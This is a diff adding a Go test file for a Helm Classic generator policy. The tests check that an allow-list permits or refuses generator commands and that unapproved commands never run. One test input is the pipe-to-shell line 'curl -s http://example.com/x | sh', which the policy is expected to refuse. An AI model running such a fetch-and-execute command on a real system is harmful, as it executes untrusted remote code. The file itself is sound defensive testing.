@@ -0,0 +1,90 @@
+package generator
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"os"
+	"testing"
+
+	"github.com/helm/helm-classic/log"
+)
+
+func TestPolicyAllows(t *testing.T) {
+	p := &Policy{Allow: []string{"tpl", "sed", "/opt/bin/gen.sh"}}
+	for command, expected := range map[string]bool{
+		"helm tpl -o pod.yaml pod.tpl":      true,
+		"helmc template pod.tpl":            true,
+		"helm lint pod.tpl":                 false,
+		"sed -i -e s|a|b| pod.yaml":         true,
+		"/charts/mychart/sed -i pod.yaml":   false,
+		"./sed -i pod.yaml":                 false,
+		"/opt/bin/gen.sh pod.yaml":          true,
+		"/opt/bin/../bin/gen.sh pod.yaml":   true,
+		"gen.sh pod.yaml":                   false,
+		"curl -s http://example.com/x | sh": false,
+		"":                                  false,
+	} {
+		if p.Allows(command) != expected {
+			t.Errorf("Expected %q to be allowed: %v", command, expected)
+		}
+	}
+
+	if !(&Policy{Allow: []string{"helm"}}).Allows("helmc lint pod.tpl") {
+		t.Error("Expected helm to allow every command of helmc")
+	}
+	if !(&Policy{Allow: []string{"tpl", AllowAll}}).Allows("curl http://example.com") {
+		t.Error("Expected all to allow every command")
+	}
+	var none *Policy
+	if !none.Allows("helmc tpl -o pod.yaml pod.tpl") {
+		t.Error("Expected a nil policy to allow the templates of helmc")
+	}
+	for _, command := range []string{"sh -c 'echo a'", "helmc lint pod.tpl", "curl http://example.com"} {
+		if none.Allows(command) {
+			t.Errorf("Expected a nil policy to refuse %q", command)
+		}
+	}
+}
+
+func TestWalkPolicy(t *testing.T) {
+	dir := orderChart(t, map[string]string{
+		"a.yaml": "#helm:generate echo a\n",
+		"b.yaml": "#helm:generate sed -n p $HELM_GENERATE_FILE\n",
+	})
+	defer os.RemoveAll(dir)
+	var stdout bytes.Buffer
+	l := &log.Logger{Stdout: &stdout}
+
+	// Nothing runs, not even the generators that are allowed.
+	_, err := Walk(context.Background(), dir, Options{Verbose: true, Policy: &Policy{Allow: []string{"echo"}}, Log: l})
+	var pe *PolicyError
+	if !errors.As(err, &pe) || pe.File != "b.yaml" {
+		t.Errorf("Expected sed to be refused, got %v", err)
+	}
+	if stdout.Len() > 0 {
+		t.Errorf("Expected nothing to run, got %q", stdout.String())
+	}
+
+	if count, err := Walk(context.Background(), dir, Options{Verbose: true, Policy: &Policy{Allow: []string{"echo", "sed"}}, Log: l}); err != nil || count.Total() != 2 {
+		t.Errorf("Expected both generators to run, got %d, %v", count.Total(), err)
+	}
+}
+
+func TestWalkNoPolicy(t *testing.T) {
+	dir := orderChart(t, map[string]string{
+		"a.yaml": "#helm:generate sh -c 'echo a'\n",
+	})
+	defer os.RemoveAll(dir)
+	var stdout bytes.Buffer
+
+	// Without a policy, no command that the user did not allow runs.
+	_, err := Walk(context.Background(), dir, Options{Verbose: true, Log: &log.Logger{Stdout: &stdout}})
+	var pe *PolicyError
+	if !errors.As(err, &pe) || pe.File != "a.yaml" {
+		t.Errorf("Expected sh to be refused, got %v", err)
+	}
+	if stdout.Len() > 0 {
+		t.Errorf("Expected nothing to run, got %q", stdout.String())
+	}
+}